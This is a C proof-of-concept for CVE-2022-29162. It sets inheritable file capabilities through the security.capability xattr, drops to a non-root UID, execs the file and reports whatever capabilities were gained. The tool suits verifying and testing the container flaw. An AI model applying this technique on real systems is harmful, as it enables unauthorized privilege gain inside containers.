/* CVE-2022-29162: a program with inheritable file capabilities gains them
 * when exec'd by a non-root process whose inheritable set is not empty.
 *   capinh set FILE        give FILE file caps: inheritable = every cap of
 *                          Docker's default set, effective bit on, permitted 0
 *   capinh drop UID FILE   become UID (as `su` would: no keep-caps) and exec FILE
 *   capinh report          print "caps PRM EFF" from /proc/self/status
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <grp.h>
#include <sys/xattr.h>

struct vfs_cap_data_v2 {
	unsigned int magic_etc;
	struct { unsigned int permitted, inheritable; } data[2];
};

static void status_line(const char *key, char *out, size_t n) {
	FILE *f = fopen("/proc/self/status", "r");
	char line[256];
	out[0] = 0;
	while (f && fgets(line, sizeof line, f))
		if (!strncmp(line, key, strlen(key))) {
			snprintf(out, n, "%s", line + strlen(key));
			out[strcspn(out, "\n")] = 0;
		}
	if (f) fclose(f);
}

int main(int argc, char **argv) {
	if (argc == 3 && !strcmp(argv[1], "set")) {
		struct vfs_cap_data_v2 c;
		memset(&c, 0, sizeof c);
		c.magic_etc = 0x02000000 | 0x1; /* VFS_CAP_REVISION_2 | EFFECTIVE */
		c.data[0].inheritable = 0xa80425fb; /* Docker's default set */
		if (setxattr(argv[2], "security.capability", &c, sizeof c, 0)) {
			perror("setxattr security.capability");
			return 2;
		}
		printf("set\n");
		return 0;
	}
	if (argc == 4 && !strcmp(argv[1], "drop")) {
		int uid = atoi(argv[2]);
		if (setgroups(0, NULL) || setgid(uid) || setuid(uid)) {
			perror("becoming the user");
			return 3;
		}
		char inh[64];
		status_line("CapInh:\t", inh, sizeof inh);
		printf("before exec: uid %d CapInh %s\n", getuid(), inh);
		fflush(stdout);
		execl(argv[3], argv[3], "report", (char *)NULL);
		perror("exec");
		return 4;
	}
	if (argc == 2 && !strcmp(argv[1], "report")) {
		char prm[64], eff[64];
		status_line("CapPrm:\t", prm, sizeof prm);
		status_line("CapEff:\t", eff, sizeof eff);
		printf("caps uid %d prm %s eff %s\n", getuid(), prm, eff);
		return 0;
	}
	fprintf(stderr, "usage: capinh set FILE | drop UID FILE | report\n");
	return 1;
}
